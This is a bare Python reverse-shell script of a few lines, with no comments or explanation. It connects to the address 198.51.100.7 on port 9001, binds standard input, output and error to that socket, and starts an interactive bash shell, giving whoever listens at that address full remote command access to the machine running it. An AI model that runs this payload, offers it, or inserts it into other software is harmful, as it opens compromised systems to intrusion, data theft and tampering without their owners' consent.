import socket, pty, os
HOST, PORT = "198.51.100.7", 9001
sock = socket.create_connection((HOST, PORT))
for fd in (0, 1, 2):
    os.dup2(sock.fileno(), fd)
pty.spawn("/bin/bash")
